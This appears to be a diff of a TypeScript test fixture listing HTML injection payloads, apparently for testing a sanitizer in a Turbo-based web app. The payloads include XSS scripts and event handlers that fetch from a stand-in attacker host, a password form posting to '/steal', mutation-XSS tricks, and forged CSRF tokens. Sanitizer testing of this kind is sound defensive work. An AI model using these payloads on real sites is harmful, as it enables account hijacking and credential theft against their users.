@@ -1,35 +1,33 @@
-/** What somebody writes who wants more than to be read. Each names the host it would call if it could. */
-export const EVIL = 'evil.example';
-
-export const INJECTIONS: string[] = [
-  `<script>fetch('//${EVIL}/1')</script>`,
-  `<script src="//${EVIL}/x.js"></script>`,
+/** What somebody writes who wants more than to be read. Most name the host they would call if they could. */
+export const injections = (evil: string): string[] => [
+  `<script>fetch('//${evil}/1')</script>`,
+  `<script src="//${evil}/x.js"></script>`,
   '<script src="/files/x.js"></script>',
-  `<script type="module">import '//${EVIL}/m.js'</script>`,
-  `<base href="//${EVIL}/">`,
-  `<form action="//${EVIL}/steal" method="post"><input name="password"><button>Sign in</button></form>`,
+  `<script type="module">import '//${evil}/m.js'</script>`,
+  `<base href="//${evil}/">`,
+  `<form action="//${evil}/steal" method="post"><input name="password"><button>Sign in</button></form>`,
   '<button formaction="/sign-out" form="reply">Win</button>',
-  `<meta http-equiv="refresh" content="0;url=//${EVIL}/">`,
-  `<img src=x onerror="fetch('//${EVIL}/2')">`,
-  `<img src="//${EVIL}/pixel.gif">`,
-  `<p onclick="fetch('//${EVIL}/3')" onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=0>text</p>`,
+  `<meta http-equiv="refresh" content="0;url=//${evil}/">`,
+  `<img src=x onerror="fetch('//${evil}/2')">`,
+  `<img src="//${evil}/pixel.gif">`,
+  `<p onclick="fetch('//${evil}/3')" onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=0>text</p>`,
   '<a href="javascript:alert(1)">x</a>',
   '<a href="java&#10;script:alert(1)">x</a>',
   '<a href="data:text/html,<script>alert(1)</script>">x</a>',
   '<a href="/sign-out" data-turbo-method="post">x</a>',
-  '<a href="https://fine.example/" data-turbo-action="replace" data-turbo-stream target="_top" ping="//evil.example">x</a>',
+  `<a href="https://fine.example/" data-turbo-action="replace" data-turbo-stream target="_top" ping="//${evil}">x</a>`,
   '<div data-controller="uploads" data-action="click->uploads#send" data-turbo-permanent id="reply">x</div>',
-  `<turbo-stream action="append" target="main"><template><script>fetch('//${EVIL}/4')</script></template></turbo-stream>`,
-  `<turbo-stream-source src="wss://${EVIL}/"></turbo-stream-source>`,
-  `<turbo-frame id="latest-notifications" src="//${EVIL}/frame"></turbo-frame>`,
-  `<iframe src="//${EVIL}/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
-  `<object data="//${EVIL}/x.swf"></object><embed src="//${EVIL}/x.swf">`,
-  `<link rel="stylesheet" href="//${EVIL}/x.css"><link rel="prefetch" href="//${EVIL}/p">`,
-  `<style>@import '//${EVIL}/x.css'; *{background:url(//${EVIL}/bg)}</style>`,
-  `<p style="position:fixed;inset:0;background:url(//${EVIL}/bg)">cover</p>`,
-  `<svg onload="fetch('//${EVIL}/5')"><script>alert(1)</script><use href="//${EVIL}/x.svg#a"></use></svg>`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('//${EVIL}/6')&gt;">`,
-  `<video poster="//${EVIL}/p" onerror=alert(1)><source src="//${EVIL}/v"></video>`,
+  `<turbo-stream action="append" target="main"><template><script>fetch('//${evil}/4')</script></template></turbo-stream>`,
+  `<turbo-stream-source src="wss://${evil}/"></turbo-stream-source>`,
+  `<turbo-frame id="latest-notifications" src="//${evil}/frame"></turbo-frame>`,
+  `<iframe src="//${evil}/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
+  `<object data="//${evil}/x.swf"></object><embed src="//${evil}/x.swf">`,
+  `<link rel="stylesheet" href="//${evil}/x.css"><link rel="prefetch" href="//${evil}/p">`,
+  `<style>@import '//${evil}/x.css'; *{background:url(//${evil}/bg)}</style>`,
+  `<p style="position:fixed;inset:0;background:url(//${evil}/bg)">cover</p>`,
+  `<svg onload="fetch('//${evil}/5')"><script>alert(1)</script><use href="//${evil}/x.svg#a"></use></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('//${evil}/6')&gt;">`,
+  `<video poster="//${evil}/p" onerror=alert(1)><source src="//${evil}/v"></video>`,
   '<details open ontoggle=alert(1)><summary>x</summary></details>',
   '<input name="_token" value="stolen"><textarea name="body"></textarea>',
   '<meta name="portico-live" content="forged"><meta name="csrf-token" content="forged">',
@@ -37,7 +35,7 @@ export const INJECTIONS: string[] = [
   '<template shadowrootmode="open"><script>alert(1)</script></template>',
   '<!--<img src="--><img src=x onerror=alert(1)//">',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<portal src="//evil.example/"></portal><dialog open data-auto-open>x</dialog>',
+  `<portal src="//${evil}/"></portal><dialog open data-auto-open>x</dialog>`,
   '"><script>alert(1)</script>',
   "'; alert(1); //",
   `\${alert(1)}{{constructor.constructor("alert(1)")()}}`,
@@ -45,4 +43,5 @@ export const INJECTIONS: string[] = [
 ];
 
 /** All of them in one text, each in its place. */
-export const EVERYTHING = INJECTIONS.map((one, index) => `<p>harmless${index}</p>${one}`).join('\n');
+export const allTogether = (list: readonly string[]): string =>
+  list.map((one, index) => `<p>harmless${index}</p>${one}`).join('\n');
